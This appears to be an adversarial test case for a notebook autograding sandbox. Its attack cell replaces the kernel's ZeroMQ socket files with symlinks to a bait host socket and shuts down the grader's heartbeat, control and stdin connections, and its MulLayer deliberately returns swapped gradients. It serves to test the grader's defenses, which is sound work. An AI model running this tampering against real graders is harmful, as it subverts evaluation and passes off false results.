# based on: aoki
# threat: symlinks in place of the kernel's sockets (to lead the grading side to a host socket of the student's choosing)
# The kernel's ZeroMQ sockets are files in the sandbox's /tmp, owned by the
# uid student code runs as.  This cell replaces each by a symlink to a host
# Unix socket (the test suite listens on /tmp/bpkit-adversarial-bait.sock)
# and drops the grading side's heartbeat, control and stdin connections so
# that ZeroMQ reconnects by path.  MulLayer swaps its gradients.
# expect: mul_layer_backward_gives_each_input_the_other mul.swapped

# %% MulLayer
import glob
import json
import os
import socket
import stat
import sys

_BAIT = "/tmp/bpkit-adversarial-bait.sock"
_ports = json.load(open(sys.argv[sys.argv.index("-f") + 1]))  # this kernel's connection file
_swapped = 0
for _path in sorted(glob.glob("/tmp/kernel-zmq-*")):
    try:
        os.unlink(_path)
        os.symlink(_BAIT, _path)
        _swapped += 1
    except OSError:
        pass
_drop = {"/tmp/kernel-zmq-%d" % _ports[k] for k in ("hb_port", "control_port", "stdin_port")}
_dropped = 0
for _fd in range(3, 1024):  # every open socket (no /proc needed)
    try:
        if not stat.S_ISSOCK(os.fstat(_fd).st_mode):
            continue
        _sock = socket.socket(fileno=os.dup(_fd))
    except OSError:
        continue
    try:
        if _sock.family == socket.AF_UNIX and _sock.getsockname() in _drop:
            _sock.getpeername()  # a connection from the grading side, not the listening socket
            _sock.shutdown(socket.SHUT_RDWR)
            _dropped += 1
    except OSError:
        pass
    finally:
        _sock.close()
print("SWAPPED:", _swapped, "DROPPED:", _dropped)


class MulLayer:
    def forward(self, x, y):
        self.x, self.y = x, y
        return x * y

    def backward(self, dout):
        return dout * self.x, dout * self.y
